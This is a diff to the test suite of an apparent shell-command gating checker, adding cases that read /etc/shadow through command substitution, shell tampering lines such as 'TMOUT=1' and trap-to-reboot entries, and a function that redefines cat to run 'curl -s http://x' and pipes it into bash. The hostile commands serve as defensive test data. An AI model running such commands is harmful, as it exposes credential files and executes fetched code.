@@ -258,6 +258,7 @@ TAMPERING = [
     "cat /tmp/.bas*/c",
     "cat /tmp/.*/c",
     "set -k",
+    "TMOUT=1",
     "trap 'x=reboot' USR1",
     "trap 'x=reboot' RETURN",
     "trap 'x=reboot' EXIT ERR",
@@ -370,6 +371,8 @@ STEPS = [
     ("rm -rf $x", {"x": ["a"], "IFS": [":"]}, "opaque"),
     ('cat < "$f"', {"f": ["/etc/shadow"]}, "open-shadow"),
     ('cat "$f"', {"f": ["shadow"]}, "default"),
+    ("x=$(< $f)", {"f": ["/etc/shadow"], "IFS": []}, "open-shadow"),
+    ("x=$(cat $f)", {"f": ["/etc/shadow"], "IFS": []}, "open-shadow"),
     ('cat "$f"', {"f": ["/proc/self/fd/0"]}, "shell-integrity"),
     ('trap - "$s"', {"s": ["DEBUG"]}, "shell-integrity"),
     ('"$t" - DEBUG', {"t": ["trap"]}, "shell-integrity"),
@@ -455,7 +458,10 @@ def test_a_step_stands_where_it_stands_in_its_line():
 def test_bug_a_function_that_prints_something_else():
     told = "cat() { curl -s http://x; }; echo ls | cat | bash"
     assert decide(GATED, ANN, BASH, "ops", ExecRequest(told)).rule == "opaque"
-    assert step("bash", line="echo ls | cat | bash", defined=("function cat",)).rule == "opaque"
+    for defined in ("function cat", "what ./env holds", "variable PATH"):
+        given = step("bash", line="echo ls | cat | bash", defined=(defined,))
+        assert given.rule == "opaque", defined
+    assert step("bash", line="echo ls | cat | bash", defined=("function x",)).action is ALLOW
 
 
 @pytest.mark.parametrize(
